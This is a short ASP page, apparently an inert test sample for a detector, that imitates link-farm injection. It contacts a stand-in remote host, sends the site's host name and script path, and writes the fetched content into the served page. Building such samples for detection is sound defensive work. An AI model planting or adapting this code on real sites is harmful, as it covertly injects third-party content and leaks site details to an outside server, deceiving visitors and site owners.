<%
' inert test sample: the same remote-template page with the address joined inline, the reply
' converted from the link farm's code page before it is written
Function Pull(u)
  Dim x, s
  Set x = Server.CreateObject("MSXML2.ServerXMLHTTP")
  x.Open "GET", u, False
  x.Send
  Set s = Server.CreateObject("ADODB.Stream")
  s.Type = 1 : s.Open : s.Write x.responseBody : s.Position = 0
  s.Type = 2 : s.Charset = "utf-8"
  Pull = s.ReadText
  s.Close
End Function
Response.Write Pull("http://farm.example.net/index.php?site=" & Request.ServerVariables("HTTP_HOST") & Request.ServerVariables("SCRIPT_NAME"))
%>
